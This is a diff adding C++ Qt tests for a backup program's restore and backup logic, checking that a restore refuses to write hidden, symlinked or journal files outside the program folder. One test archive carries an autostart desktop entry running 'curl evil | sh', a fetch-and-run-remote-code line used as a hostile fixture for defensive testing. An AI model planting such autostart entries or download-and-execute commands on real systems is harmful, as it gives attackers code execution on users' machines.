@@ -23,11 +23,14 @@
 #include <QAction>
 #include <QApplication>
 #include <QDir>
+#include <QDirIterator>
 #include <QFileInfo>
 #include <QLineEdit>
 #include <QMap>
 #include <QMenu>
 #include <QPointer>
+#include <QRegularExpression>
+#include <QSettings>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QTreeWidget>
@@ -596,6 +599,166 @@ TEST_F(BackupRestoreFlow, ACopyFailingItsCheckWhileCompressedIsNotArchived)
         EXPECT_EQ(fileBytes(archive), before) << commandLine;
     }
     EXPECT_EQ(filesIn(work.path()).filter(".zip"), QStringList({"kept.zip"}));
+}
+
+void putFile(const QString &path, const QByteArray &bytes)
+{
+    QDir().mkpath(QFileInfo(path).absolutePath());
+    QFile file(path);
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+    file.write(bytes);
+}
+
+// The names below a folder, hidden ones and folders too, in byte order.
+QStringList everythingIn(const QString &folder)
+{
+    QStringList names;
+    QDirIterator it(folder, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
+                    QDirIterator::Subdirectories);
+    while (it.hasNext())
+        names << QDir(folder).relativeFilePath(it.next());
+    names.sort();
+    return names;
+}
+
+// Started from the home folder, as a desktop launcher starts the program,
+// the automatic restore puts the archive's other files into the program
+// folder, asking before it replaces one, and nowhere else: not into the
+// current folder, not into a hidden folder, not through a link out of the
+// program folder, not onto the database's journal.
+TEST_F(BackupRestoreFlow, TheAutomaticRestorePutsOtherFilesOnlyIntoTheProgramFolder)
+{
+    insertVariedCustomers(folder.databasePath(), 30);
+    const QByteArray sound = fileBytes(folder.databasePath());
+    insertVariedCustomers(folder.databasePath(), 5);
+    putFile(folder.file("Complete.rpt"), "the center's listing");
+    const QString home = work.filePath("home");
+    const QString outside = work.filePath("outside");
+    QDir().mkpath(home);
+    QDir().mkpath(outside);
+    ASSERT_TRUE(QFile::link(outside, folder.file("linked")));
+    putFile(QDir(drive).filePath("VantrelBackup.zip"),
+            rawZip({{"Vantrel.mdb", sound},
+                    {".config/autostart/evil.desktop", "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"},
+                    {".hidden.txt", "hidden"},
+                    {"notes/league.txt", "league night"},
+                    {"Complete.rpt", "the listing as backed up"},
+                    {"VANTREL.MDB-journal", "a journal the engine would play into the database"},
+                    {"linked/planted.txt", "through the link"}}));
+    const QString started = QDir::currentPath();
+    ASSERT_TRUE(QDir::setCurrent(home));
+    auto *window = new backup::frmZipCreate;
+    window->show();
+    window->menuItem("mnuAutomaticRestore")->trigger();
+    delete window;
+    QDir::setCurrent(started);
+
+    EXPECT_EQ(everythingIn(home), QStringList());
+    EXPECT_EQ(everythingIn(outside), QStringList());
+    // Beside them only the kept database the restore replaced.
+    const QStringList restored = everythingIn(folder.path()).filter(QRegularExpression("^(?!VANTREL\\.MDB\\.kept)"));
+    EXPECT_EQ(restored, QStringList({"Complete.rpt", "Vantrel.mdb", "linked", "notes", "notes/league.txt"}))
+        << restored.join(", ").toStdString();
+    EXPECT_EQ(fileBytes(folder.file("notes/league.txt")), QByteArray("league night"));
+    EXPECT_EQ(fileBytes(folder.file("Complete.rpt")), QByteArray("the listing as backed up"));
+    EXPECT_EQ(boxesLike("The file '" + folder.file("Complete.rpt") + "' already exists").size(), 1)
+        << services.boxTexts().join(" | ").toStdString();
+    EXPECT_EQ(storedRows(folder.databasePath(), "Information").size(), 30);
+    const QString refused = boxesLike("These files of the archive were not restored").join(" | ");
+    for (const char *name :
+         {".config\\autostart\\evil.desktop", ".hidden.txt", "VANTREL.MDB-journal", "linked\\planted.txt"})
+        EXPECT_TRUE(refused.contains(name)) << name << ": " << services.boxTexts().join(" | ").toStdString();
+}
+
+// A folder as drive A is the operator's: a backup there clears only what is
+// of its archive, and the previous archive stays until the new one is whole.
+TEST_F(BackupRestoreFlow, AFolderAsDriveAKeepsTheOperatorsFiles)
+{
+    insertVariedCustomers(folder.databasePath(), 200);
+    putFile(QDir(drive).filePath("letter.txt"), "dear league");
+    putFile(QDir(drive).filePath("photos/lane 7.jpg"), QByteArray(5000, '\x7f'));
+    putFile(QDir(drive).filePath("VantrelBackup.zip"), "the previous backup");
+    putFile(QDir(drive).filePath("VantrelBackup.zip.partial"), "what a killed backup left");
+    auto *window = new backup::frmZipCreate;
+    window->show();
+    window->menuItem("mnuAutomaticBackup")->trigger();
+    delete window;
+    EXPECT_EQ(boxesLike("Compressed backup process completed!").size(), 1)
+        << services.boxTexts().join(" | ").toStdString();
+    EXPECT_EQ(everythingIn(drive), QStringList({"VantrelBackup.zip", "letter.txt", "photos", "photos/lane 7.jpg"}));
+    EXPECT_EQ(fileBytes(QDir(drive).filePath("letter.txt")), QByteArray("dear league"));
+    EXPECT_EQ(fileBytes(QDir(drive).filePath("photos/lane 7.jpg")), QByteArray(5000, '\x7f'));
+    QString tool;
+    EXPECT_EQ(runTool("unzip", {"-t", QDir(drive).filePath("VantrelBackup.zip")}, QString(), &tool), 0)
+        << tool.toStdString();
+}
+
+// Whether backups are protected does not hang on the settings file alone:
+// lost, the database still says so; unreadable, no backup is made.
+TEST_F(BackupRestoreFlow, ProtectionOnceSetSurvivesALostOrUnreadableSettingsFile)
+{
+    const QByteArray bus = qgetenv("DBUS_SESSION_BUS_ADDRESS");
+    qunsetenv("DBUS_SESSION_BUS_ADDRESS");
+    insertVariedCustomers(folder.databasePath(), 20);
+    backup::BackupPassword::rememberEncryption(true);
+    const QString settings =
+        QSettings(QSettings::UserScope, QStringLiteral("Vantrel"), QStringLiteral("Vantrel")).fileName();
+    ASSERT_TRUE(QFileInfo::exists(settings));
+    const QString destination = work.filePath("nightly.zip");
+    auto backUp = [&](QString *said) {
+        app::CommandLine line;
+        EXPECT_TRUE(line.parse({"vantrel", "--backup", destination}));
+        QString outText, errText;
+        QTextStream out(&outText), err(&errText);
+        const int status = line.run(out, err);
+        *said = outText + errText;
+        return status;
+    };
+    QString said;
+    ASSERT_TRUE(QFile::remove(settings));
+    EXPECT_EQ(backUp(&said), 1) << "settings lost";
+    EXPECT_TRUE(said.contains("protected with a password")) << said.toStdString();
+    // The window asks for the password, and makes no backup without it.
+    auto *window = new backup::frmZipCreate;
+    window->show();
+    services.answerText(std::nullopt);
+    window->menuItem("mnuAutomaticBackup")->trigger();
+    delete window;
+    EXPECT_EQ(boxesLike("The backup was not made").size(), 1) << services.boxTexts().join(" | ").toStdString();
+
+    // A database from before the password was set, and settings that cannot
+    // be read: nothing tells, and nothing is written.
+    sqlite3 *db = nullptr;
+    ASSERT_EQ(sqlite3_open(QFile::encodeName(folder.databasePath()).constData(), &db), SQLITE_OK);
+    ASSERT_EQ(sqlite3_exec(db, "DROP TABLE VantrelSettings", nullptr, nullptr, nullptr), SQLITE_OK);
+    sqlite3_close(db);
+    ASSERT_TRUE(QDir().mkdir(settings));
+    EXPECT_EQ(backUp(&said), 1) << "settings unreadable";
+    EXPECT_TRUE(said.contains(settings)) << said.toStdString();
+    window = new backup::frmZipCreate;
+    window->show();
+    window->menuItem("mnuAutomaticBackup")->trigger();
+    delete window;
+    EXPECT_EQ(boxesLike("The backup was not made: whether your backups").size(), 1)
+        << services.boxTexts().join(" | ").toStdString();
+    EXPECT_FALSE(QFileInfo::exists(destination));
+    EXPECT_FALSE(QFileInfo::exists(QDir(drive).filePath("VantrelBackup.zip")));
+
+    // Turned off in the window, with the settings readable again, backups
+    // are made in the clear.
+    QDir().rmdir(settings);
+    services.answerText(QString("Strike!9"));
+    services.answerText(QString("Strike!9"));
+    services.answerText(QString());
+    window = new backup::frmZipCreate;
+    window->show();
+    window->menuItem("mnuOptionsPassword")->trigger();
+    window->menuItem("mnuOptionsPassword")->trigger();
+    delete window;
+    EXPECT_EQ(backUp(&said), 0) << said.toStdString();
+    EXPECT_FALSE(said.contains("(encrypted)"));
+    if (!bus.isEmpty())
+        qputenv("DBUS_SESSION_BUS_ADDRESS", bus);
 }
 
 } // namespace
